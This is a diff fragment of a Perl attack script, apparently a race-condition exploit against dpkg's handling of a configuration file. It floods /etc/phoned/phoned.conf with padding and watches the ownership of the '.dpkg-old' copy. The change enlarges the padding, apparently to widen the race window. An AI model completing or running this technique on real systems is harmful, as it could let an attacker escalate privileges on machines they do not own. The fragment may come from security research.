@@ -7,7 +7,7 @@ use Attack;
 my ($target) = @ARGV;
 my $conffile = '/etc/phoned/phoned.conf';
 my $old = "$conffile.dpkg-old";
-write_file($conffile, "\0mine" x 6_400_000);
+write_file($conffile, "\0mine" x 20_000_000);
 ready();
 until (over()) {
     my ($owner) = (lstat $old)[4];
